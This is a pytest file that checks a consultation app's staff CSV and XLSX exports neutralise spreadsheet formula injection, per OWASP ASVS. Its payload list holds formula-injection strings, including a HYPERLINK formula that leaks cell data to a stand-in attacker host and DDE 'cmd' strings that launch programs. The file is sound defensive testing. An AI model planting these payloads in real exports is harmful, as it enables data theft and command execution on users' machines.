"""Free text that a spreadsheet would run as a formula is exported inert, in CSV and in XLSX,
through the staff download itself."""
from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from .conftest import add_response, csrf_token

# OWASP ASVS 5.0 V1.2.10: cells starting with = + - @, tab, carriage return (or NUL).
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Click for details\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")


@pytest.fixture
def poisoned(app, consultation):
    for i, payload in enumerate(PAYLOADS):
        add_response(consultation, {"comment__safer_streets": payload,
                                    "missing_from_plan": payload,
                                    "postcode_district": "=2+2" if i == 0 else None},
                     status="invalid" if i == 1 else "valid",
                     status_reason=payload if i == 1 else "")
    return consultation


def _download(client, slug: str, fmt: str) -> bytes:
    token = csrf_token(client, f"/staff/consultations/{slug}/export")
    asked = client.post(f"/staff/consultations/{slug}/export",
                        data={"format": fmt, "csrf_token": token})
    # the export is a job: its page (made at once in tests) offers the file
    assert asked.status_code == 303, asked.get_data(as_text=True)[:500]
    page = client.get(asked.headers["Location"]).get_data(as_text=True)
    link = re.search(r'href="(/staff/jobs/\d+/files/export)"', page)
    assert link, page[-2000:]
    answer = client.get(link.group(1))
    try:
        assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
        return answer.get_data()
    finally:
        answer.close()


def test_csv_cells_never_start_like_a_formula(client, poisoned, signed_in):
    signed_in("engagement")
    text = _download(client, poisoned.slug, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    seen = 0
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"live formula in the CSV: {cell!r}"
            if cell.startswith("'") and cell[1:].startswith(DANGEROUS):
                seen += 1
    # every payload came out, neutralised (comment, missing_from_plan, plus reason and postcode)
    assert seen >= 2 * len(PAYLOADS)


def test_xlsx_cells_are_text_never_formulas(client, poisoned, signed_in):
    signed_in("engagement")
    workbook = openpyxl.load_workbook(io.BytesIO(_download(client, poisoned.slug, "xlsx")))
    texts = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(DANGEROUS[:4]):
                    assert cell.value.startswith("'") or cell.data_type == "s"
                    texts += 1
    assert texts >= len(PAYLOADS)
